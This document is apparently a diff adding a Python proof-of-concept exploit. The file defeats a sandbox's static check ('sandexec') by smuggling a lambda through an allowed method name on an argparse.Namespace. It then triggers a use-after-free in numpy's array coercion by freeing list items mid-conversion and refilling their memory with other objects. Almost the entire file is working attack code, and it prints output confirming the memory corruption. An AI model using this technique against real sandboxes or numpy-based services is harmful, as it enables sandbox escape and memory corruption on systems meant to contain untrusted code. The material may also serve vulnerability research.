@@ -1,0 +1,53 @@
+# source: numpy array_coercion.c PyArray_AssignFromCache_Recursive; sandexec README, "The static check", conversion rule lets a conversion call isoformat/item/quantize/strip/total_seconds/upper/zfill...; argparse.Namespace keeps any keyword as an attribute
+# family: conversion (__float__) calls an allowed method name (upper) on an argparse.Namespace whose attribute upper is a lambda: arbitrary code
+# goal: the lambda deletes list items numpy still reads and refills their memory: numpy converts objects never in the list (use-after-free)
+import sys
+import numpy as np
+import pandas as pd
+
+import argparse
+
+NS = argparse.Namespace(upper=lambda *a: pick())
+DONE = []
+KEEP = []
+
+
+def pick():
+    if not DONE:
+        DONE.append(1)
+        # numpy read the length (64) once and reads items by index: free items 32..63
+        del LST[32:]
+        # new objects of the same size take the freed objects' memory
+        k = 0
+        while k < 40:
+            KEEP.append(B(1000.0 + k))
+            k += 1
+    return "0"
+
+
+class B:
+    __slots__ = ("v",)
+
+    def __init__(self, w):
+        self.v = w
+
+    def __float__(self):
+        return self.v
+
+
+class A:
+    __slots__ = ("v",)
+
+    def __init__(self, v):
+        self.v = v
+
+    def __float__(self):
+        return float(NS.upper()) + self.v
+
+
+LST = list(tuple(A(float(i)) for i in range(64)))
+arr = np.array(LST, dtype=float)
+print("np.array(LST) gave", len(arr), "values; LST now has", len(LST), "items")
+print("values:", arr)
+print("values >= 1000 come from B objects never in LST (freed A slots reused):", int((arr >= 1000).sum()))
+sys.stdout.flush()
